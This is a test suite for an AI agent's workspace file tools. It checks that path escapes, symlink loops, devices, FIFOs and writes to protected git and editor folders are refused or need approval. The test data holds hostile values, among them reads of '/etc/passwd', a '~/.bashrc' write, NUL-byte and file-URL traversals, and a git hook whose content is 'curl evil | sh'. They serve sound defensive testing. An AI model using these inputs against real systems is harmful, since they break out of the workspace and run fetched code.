import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { createBuiltinTool } from '../../../src/tools/factory';
import { BUILTIN_MANIFEST } from '../../../src/tools/manifest';
import { ToolRefusedError } from '../../../src/tools/toolErrors';
import type { ConfirmationRequest, ToolContext } from '../../../src/tools/types';
import { bundledRipgrep, contextFor, TempWorkspace } from '../../support/workspace';

/** Not a speed target: a call still running after this long hangs, and the test says so. */
const HANG_GUARD_MS = 5000;
const SECRET = 'TOP SECRET: never leave the workspace';
const CHAIN_LENGTH = 45;

type Status = 'ok' | 'error' | 'refused';
interface Outcome {
  status: Status;
  text: string;
}

/** Calls a builtin as the model would, racing it against the hang guard. */
async function call(ctx: ToolContext, tool: string, args: Record<string, unknown>, signal?: AbortSignal): Promise<Outcome> {
  const definition = BUILTIN_MANIFEST.find((d) => d.name === tool);
  assert.ok(definition, tool);
  const running = createBuiltinTool(definition, ctx)
    .execute(args, { signal })
    .then(
      (text): Outcome => ({ status: 'ok', text }),
      (error: Error): Outcome => ({ status: error instanceof ToolRefusedError ? 'refused' : 'error', text: error.message }),
    );
  let timer: NodeJS.Timeout | undefined;
  const guard = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${tool} ${JSON.stringify(args).slice(0, 200)} still running after ${HANG_GUARD_MS} ms: it hangs`)), HANG_GUARD_MS);
  });
  try {
    return await Promise.race([running, guard]);
  } finally {
    clearTimeout(timer);
  }
}

/** Every entry under `dir` (links and FIFOs by kind, never opened), to prove nothing changed. */
async function snapshot(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const entry of await fs.readdir(dir, { withFileTypes: true, recursive: true })) {
    const full = path.join(entry.parentPath, entry.name);
    const key = path.relative(dir, full);
    if (entry.isSymbolicLink()) out[key] = `<link ${await fs.readlink(full)}>`;
    else if (entry.isFile()) out[key] = await fs.readFile(full, 'utf8');
    else out[key] = entry.isDirectory() ? '<dir>' : entry.isFIFO() ? '<fifo>' : '<other>';
  }
  return out;
}

describe('hostile paths', () => {
  let ws: TempWorkspace;
  let before: Record<string, string>;
  const outside = () => path.join(ws.parent, 'outside');
  /** Placeholders in hostile arguments: <parent> and <root> are the real temp folders. */
  const expand = (args: Record<string, unknown>) =>
    JSON.parse(JSON.stringify(args).replaceAll('<parent>', ws.parent).replaceAll('<root>', ws.root)) as Record<string, unknown>;

  beforeEach(async () => {
    ws = await TempWorkspace.create({
      'a.txt': 'inside',
      'sub/inner.txt': 'inner file',
      '.git/config': '[core]',
      '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n',
      '.vscode/settings.json': '{}',
    });
    await fs.mkdir(outside());
    await fs.writeFile(path.join(outside(), 'secret.txt'), SECRET);
    await fs.mkdir(path.join(ws.parent, 'workspace-evil'));
    const links: [string, string][] = [
      ['self', 'self'],
      ['loop-a', 'loop-b'],
      ['loop-b', 'loop-a'],
      ['dangling', 'nowhere/../via-dangling'],
      ['via-dangling', 'loop-a'],
      ['link-out', '../outside'],
      ['sub/up', '../../outside'],
      ['etc', '/etc'],
      ['zero', '/dev/zero'],
      ['tty', '/dev/tty'],
      ['cfg', '.vscode'],
      ['pipe-link', 'pipe'],
      ['docs', 'sub'],
      ...Array.from({ length: CHAIN_LENGTH }, (_, i): [string, string] => [`chain${i}`, i === CHAIN_LENGTH - 1 ? 'a.txt' : `chain${i + 1}`]),
      ...Array.from({ length: 10 }, (_, i): [string, string] => [`short${i}`, i === 9 ? 'a.txt' : `short${i + 1}`]),
    ];
    for (const [link, target] of links) await fs.symlink(target, ws.path(link));
    execFileSync('mkfifo', [ws.path('pipe')]);
    before = await snapshot(ws.parent);
  });

  afterEach(() => ws.dispose());

  const unchanged = async () => assert.deepEqual(await snapshot(ws.parent), before, 'nothing inside or outside the workspace changed');

  describe('symlink loops, long chains, FIFOs and devices end at once with an error naming the path', () => {
    const cases: [string, string, Record<string, unknown>, RegExp][] = [
      ['a self-loop', 'read_file', { path: 'self' }, /"self".*loop of symbolic links/],
      ['a 2-cycle', 'read_file', { path: 'loop-a' }, /"loop-a".*loop/],
      ['a loop in a parent component', 'read_file', { path: 'self/child.txt' }, /"self\/child.txt".*loop/],
      ['a loop reached through a dangling chain', 'read_file', { path: 'dangling' }, /"dangling".*loop/],
      [`a chain of ${CHAIN_LENGTH} links`, 'read_file', { path: 'chain0' }, /"chain0".*more than 40/],
      ['a FIFO', 'read_file', { path: 'pipe' }, /"pipe" is not a regular file/],
      ['a link to a FIFO', 'read_file', { path: 'pipe-link' }, /"pipe" is not a regular file/],
      ['a self-loop', 'write_file', { path: 'self', content: 'x' }, /"self".*loop/],
      ['a 2-cycle', 'write_file', { path: 'loop-b', content: 'x' }, /"loop-b".*loop/],
      ['a loop in a parent component', 'write_file', { path: 'loop-a/new.txt', content: 'x' }, /"loop-a\/new.txt".*loop/],
      ['a loop reached through a dangling chain', 'write_file', { path: 'dangling', content: 'x' }, /"dangling".*loop/],
      [`a chain of ${CHAIN_LENGTH} links`, 'write_file', { path: 'chain0', content: 'x' }, /"chain0".*loop/],
      ['a FIFO', 'write_file', { path: 'pipe', content: 'x' }, /"pipe" is not a regular file/],
      ['a link to a FIFO', 'write_file', { path: 'pipe-link', content: 'x' }, /"pipe" is not a regular file/],
      ['a self-loop', 'list_dir', { path: 'self' }, /"self".*loop/],
      ['a 2-cycle with a trailing slash', 'list_dir', { path: 'loop-a/' }, /"loop-a\/".*loop/],
      ['a loop in a parent component', 'list_dir', { path: 'self/deeper' }, /"self\/deeper".*loop/],
      ['a self-loop', 'mkdir', { path: 'self' }, /"self".*loop/],
      ['a loop in a parent component', 'mkdir', { path: 'loop-b/new' }, /"loop-b\/new".*loop/],
      ['a loop reached through a dangling chain', 'mkdir', { path: 'dangling/new' }, /"dangling\/new".*loop/],
      [`a chain of ${CHAIN_LENGTH} links`, 'mkdir', { path: 'chain0/x' }, /"chain0\/x".*loop/],
      ['a source in a looping folder', 'move', { source: 'self/x', destination: 'y' }, /"self\/x".*loop/],
      ['a destination in a looping folder', 'move', { source: 'a.txt', destination: 'loop-a/a.txt' }, /"loop-a\/a.txt".*loop/],
      ['a destination through a long chain', 'move', { source: 'a.txt', destination: 'chain0/a.txt' }, /"chain0\/a.txt".*loop/],
      ['a FIFO destination', 'move', { source: 'a.txt', destination: 'pipe' }, /"pipe" already exists/],
      ['a path in a looping folder', 'remove', { path: 'self/x' }, /"self\/x".*loop/],
      ['a path through a dangling chain into a loop', 'remove', { path: 'dangling/x', recursive: true }, /"dangling\/x".*loop/],
    ];
    for (const [label, tool, args, message] of cases) {
      it(`${tool}: ${label}`, async () => {
        const outcome = await call(contextFor(ws, { answer: true }), tool, args);
        assert.equal(outcome.status, 'error', outcome.text);
        assert.match(outcome.text, message);
        await unchanged();
      });
    }

    it('save_session_context: a session file in a looping folder, or a FIFO', async () => {
      for (const file of ['self/ctx.md', 'loop-a', 'chain0', 'pipe']) {
        const outcome = await call(contextFor(ws, { sessionContextFilePath: file }), 'save_session_context', { reason: 'x' });
        assert.equal(outcome.status, 'error', outcome.text);
        assert.match(outcome.text, /loop|not a regular file/);
      }
      await unchanged();
    });

    it('search_text / search_files: a workspace full of loops, and a second root that is a loop', async () => {
      await fs.symlink('loop-root', path.join(ws.parent, 'loop-root'));
      before = await snapshot(ws.parent);
      for (const rgPath of [bundledRipgrep(), undefined]) {
        const ctx = contextFor(ws, { rgPath, workspaceRoots: { workspace: ws.root, looped: path.join(ws.parent, 'loop-root') } });
        assert.match((await call(ctx, 'search_text', { pattern: 'inner' })).text, /sub\/inner\.txt/);
        assert.match((await call(ctx, 'search_files', { pattern: '**/*.txt' })).text, /sub\/inner\.txt/);
        assert.match((await call(ctx, 'list_dir', { path: 'looped' })).text, /"looped".*workspace folder is unusable \(ELOOP\)/);
      }
      await unchanged();
    });

    it('list_dir lists a folder holding loops and FIFOs, naming them without following', async () => {
      const outcome = await call(contextFor(ws), 'list_dir', { path: '.' });
      assert.equal(outcome.status, 'ok');
      assert.match(outcome.text, /^self \(symlink\)$/m);
      assert.match(outcome.text, /^pipe$/m);
    });

    it('a chain within the kernel limit is still followed', async () => {
      assert.deepEqual(await call(contextFor(ws), 'read_file', { path: 'short0' }), { status: 'ok', text: 'inside' });
    });

    it('remove and move act on a looping link itself, not its target', async () => {
      const ctx = contextFor(ws, { answer: true });
      assert.equal((await call(ctx, 'move', { source: 'loop-a', destination: 'moved-loop' })).status, 'ok');
      assert.equal(await fs.readlink(ws.path('moved-loop')), 'loop-b');
      assert.equal((await call(ctx, 'remove', { path: 'self' })).status, 'ok');
      assert.equal(await ws.exists('self'), false);
    });

    it('move with overwrite onto a FIFO replaces it without opening it', async () => {
      const outcome = await call(contextFor(ws), 'move', { source: 'a.txt', destination: 'pipe', overwrite: true });
      assert.equal(outcome.status, 'ok', outcome.text);
      assert.equal(await ws.read('pipe'), 'inside');
    });

    for (const [tool, args] of [
      ['read_file', { path: 'zero' }],
      ['read_file', { path: 'tty' }],
      ['read_file', { path: '/dev/zero' }],
      ['write_file', { path: 'zero', content: 'x' }],
    ] as const) {
      it(`${tool} on the device ${args.path} is refused as outside the workspace`, async () => {
        const outcome = await call(contextFor(ws), tool, args);
        assert.equal(outcome.status, 'refused', outcome.text);
        assert.match(outcome.text, /outside the workspace/);
        await unchanged();
      });
    }
  });

  describe('Stop', () => {
    it('a call stopped before it starts ends at once and changes nothing', async () => {
      const outcome = await call(contextFor(ws), 'write_file', { path: 'new.txt', content: 'x' }, AbortSignal.abort());
      assert.equal(outcome.status, 'error');
      await unchanged();
    });

    it('Stop while the approval is pending: the protected file is not written', async () => {
      const stop = new AbortController();
      const ctx = contextFor(ws, { answer: () => (stop.abort(), true) });
      const outcome = await call(ctx, 'write_file', { path: '.git/config', content: 'evil' }, stop.signal);
      assert.equal(outcome.status, 'error', outcome.text);
      await unchanged();
    });
  });

  describe('escapes are refused and leave every file as it was', () => {
    const cases: [string, string, Record<string, unknown>][] = [
      ['a .. chain', 'read_file', { path: '../../../../../../../../etc/passwd' }],
      ['./../ prefix', 'read_file', { path: './../outside/secret.txt' }],
      ['.. hidden after a real folder', 'write_file', { path: 'sub/../../outside/pwned.txt', content: 'x' }],
      ['a trailing slash', 'list_dir', { path: '../outside/' }],
      ['.. with a trailing slash', 'mkdir', { path: '../' }],
      ['an absolute path', 'read_file', { path: '/etc/passwd' }],
      ['an absolute path to a sibling sharing the prefix', 'write_file', { path: '<parent>/workspace-evil/x.txt', content: 'x' }],
      ['a file URL', 'read_file', { path: 'file:///etc/passwd' }],
      ['a file URL with encoded dots', 'read_file', { path: 'file:///%2e%2e/etc/passwd' }],
      ['a file URL to the outside secret', 'read_file', { path: 'file://<parent>/outside/secret.txt' }],
      ['a name with a newline before ..', 'write_file', { path: '..\n/../../outside/pwned.txt', content: 'x' }],
      ['a NUL byte', 'read_file', { path: 'a.txt\0../../outside/secret.txt' }],
      ['a home path', 'write_file', { path: '~/.bashrc', content: 'x' }],
      ['a link to /etc', 'read_file', { path: 'etc/passwd' }],
      ['a link in a parent folder', 'read_file', { path: 'sub/up/secret.txt' }],
      ['writing through a link', 'write_file', { path: 'link-out/pwned.txt', content: 'x' }],
      ['mkdir through a link in a parent folder', 'mkdir', { path: 'sub/up/newdir' }],
      ['moving out through a link', 'move', { source: 'a.txt', destination: 'link-out/a.txt' }],
      ['moving in from outside', 'move', { source: 'sub/up/secret.txt', destination: 'stolen.txt' }],
      ['removing through a link', 'remove', { path: 'link-out/secret.txt' }],
    ];
    for (const [label, tool, args] of cases) {
      it(`${tool}: ${label}`, async () => {
        const outcome = await call(contextFor(ws, { answer: true }), tool, expand(args));
        assert.equal(outcome.status, 'refused', outcome.text);
        assert.doesNotMatch(outcome.text, /TOP SECRET|root:/);
        await unchanged();
      });
    }

    it('look-alike forms are names inside the workspace, never escapes', async () => {
      for (const p of ['..\\..\\outside\\secret.txt', 'sub\\..\\../outside/secret.txt', '．．/outside/secret.txt', '%2e%2e/outside/secret.txt']) {
        const outcome = await call(contextFor(ws), 'read_file', { path: p });
        assert.equal(outcome.status, 'error', p);
        assert.match(outcome.text, /does not exist/, p);
      }
      await unchanged();
    });

    it('a path longer than 4096 characters, or a name longer than the file system allows, fails cleanly', async () => {
      const ctx = contextFor(ws);
      for (const p of ['a/'.repeat(2100) + 'x.txt', '../'.repeat(2000) + 'etc/passwd', 'n'.repeat(300)]) {
        const outcome = await call(ctx, 'write_file', { path: p, content: 'x' });
        assert.equal(outcome.status, 'error', outcome.text.slice(0, 300));
        assert.match(outcome.text, /characters long|too long/);
        assert.ok(outcome.text.length < 600, 'the error names the path by its start');
      }
      await unchanged();
    });

    it('unicode and newline names stay inside and are written where asked', async () => {
      const ctx = contextFor(ws);
      for (const p of ['ünïcödé/日本.txt', 'line\nbreak.txt', '\u2025/x.txt']) {
        assert.equal((await call(ctx, 'write_file', { path: p, content: 'ok' })).status, 'ok', p);
        assert.equal(await ws.read(p), 'ok');
      }
    });

    it('a folder swapped for a link to the outside during the approval is not written through', async () => {
      const ctx = contextFor(ws, {
        answer: () => {
          execFileSync('mv', [ws.path('.vscode'), ws.path('vscode-old')]);
          execFileSync('ln', ['-s', outside(), ws.path('.vscode')]);
          return true;
        },
      });
      const outcome = await call(ctx, 'write_file', { path: '.vscode/settings.json', content: 'pwned' });
      assert.equal(outcome.status, 'refused', outcome.text);
      assert.deepEqual(await fs.readdir(outside()), ['secret.txt']);
      assert.equal(await ws.read('vscode-old/settings.json'), '{}');
    });

    it('a link swapped for a folder during the approval: the approved target is not what gets deleted', async () => {
      const ctx = contextFor(ws, {
        answer: () => {
          execFileSync('rm', [ws.path('docs')]);
          execFileSync('mkdir', ['-p', ws.path('docs')]);
          execFileSync('cp', [ws.path('sub/inner.txt'), ws.path('docs/inner.txt')]);
          return true;
        },
      });
      const outcome = await call(ctx, 'remove', { path: 'docs/inner.txt' });
      assert.equal(outcome.status, 'refused', outcome.text);
      assert.equal(await ws.read('sub/inner.txt'), 'inner file');
      assert.equal(await ws.read('docs/inner.txt'), 'inner file');
    });
  });

  describe('protected writes need a confirmation, and a refusal changes nothing', () => {
    const cases: [string, string, Record<string, unknown>][] = [
      ['a git hook', 'write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh' }],
      ['.GIT/config (case variant)', 'write_file', { path: '.GIT/config', content: 'evil' }],
      ['.Git/hooks/post-checkout (case variant)', 'write_file', { path: '.Git/hooks/post-checkout', content: 'evil' }],
      ['settings through a link to .vscode', 'write_file', { path: 'cfg/settings.json', content: '{"evil":1}' }],
      ['a new tasks.json through a link to .vscode', 'write_file', { path: 'cfg/tasks.json', content: '{}' }],
      ['a workspace file', 'write_file', { path: 'x.code-workspace', content: '{}' }],
      ['a workspace file, upper case', 'write_file', { path: 'sub/X.CODE-WORKSPACE', content: '{}' }],
      ['.git through ..', 'write_file', { path: 'sub/../.git/config', content: 'evil' }],
      ['.git by absolute path', 'write_file', { path: '<root>/.git/config', content: 'evil' }],
      ['.git by file URL', 'write_file', { path: 'file://<root>/.git/config', content: 'evil' }],
      ['a move into .git/', 'move', { source: 'a.txt', destination: '.git/a.txt' }],
      ['a move out of .vscode', 'move', { source: '.vscode/settings.json', destination: 'settings.json' }],
      ['a move out of .vscode through a link', 'move', { source: 'cfg/settings.json', destination: 'settings.json' }],
      ['a move replacing .git/config', 'move', { source: 'a.txt', destination: '.git/config', overwrite: true }],
      ['mkdir in .git', 'mkdir', { path: '.git/x' }],
      ['remove .vscode', 'remove', { path: '.vscode', recursive: true }],
      ['remove a git hook', 'remove', { path: '.git/hooks/pre-commit' }],
    ];
    for (const [label, tool, rawArgs] of cases) {
      it(`${tool}: ${label} — refused without a confirm hook, and when declined`, async () => {
        const args = expand(rawArgs);
        const unattended = await call(contextFor(ws), tool, args);
        assert.equal(unattended.status, 'refused', unattended.text);
        assert.match(unattended.text, /protected path/);
        await unchanged();
        const asked: ConfirmationRequest[] = [];
        const declined = await call(contextFor(ws, { answer: (r) => (asked.push(r), false) }), tool, args);
        assert.equal(declined.status, 'refused', declined.text);
        assert.match(declined.text, /declined/);
        assert.equal(asked.length, 1);
        assert.equal(asked[0].reason, 'protected');
        await unchanged();
      });
    }

    it('save_session_context into .git is refused without a hook and when declined', async () => {
      for (const answer of [undefined, false]) {
        const outcome = await call(contextFor(ws, { answer, sessionContextFilePath: '.git/ctx.md' }), 'save_session_context', { reason: 'x' });
        assert.equal(outcome.status, 'refused', outcome.text);
      }
      await unchanged();
    });

    it('an approved protected write does happen (the guard asks, it does not forbid)', async () => {
      const outcome = await call(contextFor(ws, { answer: true }), 'write_file', { path: 'cfg/settings.json', content: '{"ok":1}' });
      assert.equal(outcome.status, 'ok', outcome.text);
      assert.equal(await ws.read('.vscode/settings.json'), '{"ok":1}');
      assert.equal(await fs.readlink(ws.path('cfg')), '.vscode');
    });
  });
});
